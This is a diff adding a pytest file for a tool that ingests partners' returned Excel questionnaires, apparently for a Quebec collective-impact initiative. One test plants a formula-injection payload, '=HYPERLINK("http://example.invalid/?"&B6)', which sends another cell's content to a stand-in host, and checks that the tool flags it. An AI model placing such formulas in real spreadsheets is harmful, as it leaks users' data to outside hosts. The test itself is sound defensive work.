@@ -1,0 +1,207 @@
+"""pull: returned copies become typed cells, whatever partners did to them."""
+
+from __future__ import annotations
+
+import datetime as dt
+import hashlib
+import os
+import shutil
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from tests.conftest import fill
+from toolkit import api
+from toolkit.initiative import Initiative
+from toolkit.metadata import METADATA_TAB
+from toolkit.submission import Submission, completion
+
+PROGRESS, BACKBONE = "Canevas des progrès", "Infrastructure de soutien"
+
+
+def cell(submission: Submission, worksheet: str, row: str, column: str) -> dict[str, object]:
+    c = submission.cells
+    found = c[(c["worksheet"] == worksheet) & (c["row"] == row) & (c["column"] == column)]
+    assert len(found) == 1, (worksheet, row, column)
+    return dict(found.iloc[0])
+
+
+def only(result: api.PullResult) -> Submission:
+    assert not result.errors, result.errors
+    assert len(result.submissions) == 1
+    return result.submissions[0]
+
+
+def test_values_are_typed_per_column(initiative: Initiative, copies: dict[str | None, Path]) -> None:
+    path = fill(copies["cdc-hochelaga"], {
+        (PROGRESS, "B5"): "  Démarrage de la table\nen 2019 ",
+        (PROGRESS, "C5"): dt.datetime(2026, 11, 2),
+        (PROGRESS, "C6"): "2 novembre 2026",
+        (PROGRESS, "C7"): "02/11/2026",
+        (PROGRESS, "C8"): "pas encore",
+        (BACKBONE, "B5"): "Isabelle Côté",
+        (BACKBONE, "B14"): "Oui, avec la CDC.",
+    })  # fmt: skip
+    s = only(api.pull([path], initiative))
+    assert s.partner_id == "cdc-hochelaga" and s.kit_id == "collective_impact" and s.role == "partner"
+    assert cell(s, "progress_canvas", "overview", "activities")["value"] == "Démarrage de la table\nen 2019"
+    assert cell(s, "progress_canvas", "overview", "date")["value"] == dt.date(2026, 11, 2)
+    assert cell(s, "progress_canvas", "research_data", "date")["value"] == dt.date(2026, 11, 2)
+    assert cell(s, "progress_canvas", "partner_involvement", "date")["value"] == dt.date(2026, 11, 2)
+    bad = cell(s, "progress_canvas", "achievements", "date")
+    assert (bad["value"], bad["text"], bad["problem"]) == (None, "pas encore", "not_a_date")
+    assert cell(s, "backbone_infrastructure", "vision_strategy", "who")["location"] == f"{BACKBONE}!B5"
+    assert cell(s, "backbone_infrastructure", "pooling", "answer")["value"] == "Oui, avec la CDC."
+    assert s.notes == () and s.unmapped == ()
+
+
+def test_ambiguous_date_in_english_is_reported_not_guessed(initiative: Initiative, tmp_path: Path) -> None:
+    english = Initiative(**{**initiative.__dict__, "language": "en"})
+    path = api.generate(english, tmp_path, partners=["ecole-baril"], blank=False)[0].path
+    fill(path, {("Progress canvas", "C5"): "03/04/2026", ("Progress canvas", "C6"): "25/04/2026"})
+    s = only(api.pull([path], english))
+    assert cell(s, "progress_canvas", "overview", "date")["problem"] == "ambiguous_date"
+    assert cell(s, "progress_canvas", "research_data", "date")["value"] == dt.date(2026, 4, 25)
+
+
+def test_completion(initiative: Initiative, copies: dict[str | None, Path]) -> None:
+    # 6 required rows x 2 columns + 6 rows x 4 columns = 36 required cells; fill 9 of them
+    cells: dict[tuple[str, str], object] = {(PROGRESS, f"B{r}"): "fait" for r in range(5, 11)}
+    cells |= {(BACKBONE, f"C{r}"): "force" for r in range(5, 8)}
+    s = only(api.pull([fill(copies["ecole-baril"], cells)], initiative))
+    assert completion(s) == pytest.approx(9 / 36)
+
+
+def test_renamed_moved_tab_and_inserted_row_still_map(
+    initiative: Initiative, copies: dict[str | None, Path]
+) -> None:
+    wb = openpyxl.load_workbook(copies["ecole-baril"])
+    ws = wb[BACKBONE]
+    ws.insert_rows(7)  # between shared_measurement and aligned_activities
+    ws["A7"] = "Notre propre rôle"
+    ws["C7"] = "Une idée à garder"
+    ws["C8"] = "Forces pour les activités"  # aligned_activities moved from row 7 to 8
+    ws.title = "Infra 2026"
+    wb.move_sheet("Infra 2026", offset=-2)
+    wb.save(copies["ecole-baril"])
+    s = only(api.pull([copies["ecole-baril"]], initiative))
+    assert (
+        cell(s, "backbone_infrastructure", "aligned_activities", "strengths")["value"]
+        == "Forces pour les activités"
+    )
+    codes = [n.code for n in s.notes]
+    assert codes == ["tab_renamed", "tab_moved", "rows_moved"] or sorted(codes) == sorted(
+        ["tab_renamed", "tab_moved", "tab_moved", "rows_moved"]
+    )
+    assert ("Infra 2026!A7", "Notre propre rôle") in s.unmapped
+    assert ("Infra 2026!C7", "Une idée à garder") in s.unmapped
+
+
+def test_lost_metadata_tab_falls_back_to_properties(
+    initiative: Initiative, copies: dict[str | None, Path]
+) -> None:
+    wb = openpyxl.load_workbook(copies["ciusss-est"])
+    del wb[METADATA_TAB]
+    wb[BACKBONE]["B6"] = "Mamadou Diallo"
+    wb.save(copies["ciusss-est"])
+    s = only(api.pull([copies["ciusss-est"]], initiative))
+    assert s.partner_id == "ciusss-est"
+    assert cell(s, "backbone_infrastructure", "shared_measurement", "who")["value"] == "Mamadou Diallo"
+
+
+def test_pasted_into_a_new_workbook(
+    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
+) -> None:
+    """No metadata at all: tabs found by their headers, partner by the file name."""
+    source = openpyxl.load_workbook(copies["bibliotheque"])
+    pasted = openpyxl.Workbook()
+    target = pasted.active
+    assert target is not None
+    target.title = "Feuil1"
+    for row in source[BACKBONE].iter_rows(min_row=4, max_row=10, values_only=True):
+        target.append(list(row))
+    target["C2"] = "Lecture et littératie"  # the header is now row 1, vision_strategy row 2
+    path = tmp_path / "bibliotheque-reponses.xlsx"
+    pasted.save(path)
+    s = only(api.pull([path], initiative))
+    assert s.partner_id == "bibliotheque"
+    assert (
+        cell(s, "backbone_infrastructure", "vision_strategy", "strengths")["value"] == "Lecture et littératie"
+    )
+    codes = {n.code for n in s.notes}
+    assert {"metadata_missing", "tab_found_by_content", "partner_from_filename", "worksheet_missing"} <= codes
+
+
+def test_formula_where_a_value_belongs(initiative: Initiative, copies: dict[str | None, Path]) -> None:
+    wb = openpyxl.load_workbook(copies["ecole-baril"])
+    wb[PROGRESS]["B5"] = '=HYPERLINK("http://example.invalid/?"&B6)'
+    wb[PROGRESS]["B6"] = "=1+1"
+    wb[PROGRESS]["B6"].data_type = "s"  # text that merely starts with "=" is fine
+    wb.save(copies["ecole-baril"])
+    s = only(api.pull([copies["ecole-baril"]], initiative))
+    assert cell(s, "progress_canvas", "overview", "activities")["problem"] == "formula"
+    typed = cell(s, "progress_canvas", "research_data", "activities")
+    assert (typed["value"], typed["problem"]) == ("=1+1", None)
+
+
+def test_copy_of_another_initiative_or_template(
+    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
+) -> None:
+    other = Initiative(**{**initiative.__dict__, "id": "autre-table"})
+    foreign = api.generate(other, tmp_path / "other", partners=["cdc-hochelaga"], blank=False)[0].path
+    unrelated = tmp_path / "budget.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active.append(["Poste", "Montant"])  # type: ignore[union-attr]
+    wb.save(unrelated)
+    result = api.pull([foreign, unrelated, copies["cdc-hochelaga"]], initiative)
+    assert [(Path(e.source).name, e.code) for e in result.errors] == [
+        ("autre-table_cdc-hochelaga.xlsx", "foreign_initiative"),
+        ("budget.xlsx", "foreign_template"),
+    ]
+    assert result.errors[0].message == "copie d'une autre initiative (copy of 'autre-table')"
+    assert [s.partner_id for s in result.submissions] == ["cdc-hochelaga"]
+
+
+def test_folder_skips_lock_files_and_reports_strays(
+    initiative: Initiative, copies: dict[str | None, Path]
+) -> None:
+    folder = copies["cdc-hochelaga"].parent
+    (folder / "~$hochelaga-ensemble_cdc-hochelaga.xlsx").write_bytes(b"lock")
+    (folder / ".~lock.hochelaga-ensemble_ecole-baril.xlsx#").write_text("lock")
+    (folder / "notes.txt").write_text("à relancer")
+    result = api.pull([folder], initiative)
+    assert len(result.submissions) == 9
+    assert [(Path(e.source).name, e.code) for e in result.errors] == [("notes.txt", "not_spreadsheet")]
+
+
+def test_without_config_the_copy_explains_itself(copies: dict[str | None, Path]) -> None:
+    s = only(api.pull([copies["cuisine-collective"]]))
+    assert (s.partner_id, s.kit_id, s.language) == ("cuisine-collective", "collective_impact", "fr")
+
+
+HOSTILE = Path(__file__).parent / "data" / "hostile"
+
+
+def test_hostile_files_are_errors_and_the_rest_is_processed(
+    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
+) -> None:
+    from tests.data import make_hostile
+
+    folder = tmp_path / "inbox"
+    shutil.copytree(HOSTILE, folder)
+    make_hostile.build_large(folder, rows=150_000)
+    shutil.copy(copies["cdc-hochelaga"], folder / "zz_good.xlsx")
+    before = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()}
+    result = api.pull([folder], initiative)
+    codes = {Path(e.source).name: e.code for e in result.errors}
+    assert codes == {**make_hostile.SMALL_EXPECTED, **make_hostile.LARGE_EXPECTED}
+    assert [s.partner_id for s in result.submissions] == ["cdc-hochelaga"]
+    assert all(e.message for e in result.errors)
+    assert before == {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()}
+
+
+def test_modified_time_is_the_files(initiative: Initiative, copies: dict[str | None, Path]) -> None:
+    os.utime(copies["cdc-hochelaga"], (1_790_000_000, 1_790_000_000))
+    s = only(api.pull([copies["cdc-hochelaga"]], initiative))
+    assert s.modified == dt.datetime.fromtimestamp(1_790_000_000, dt.UTC)
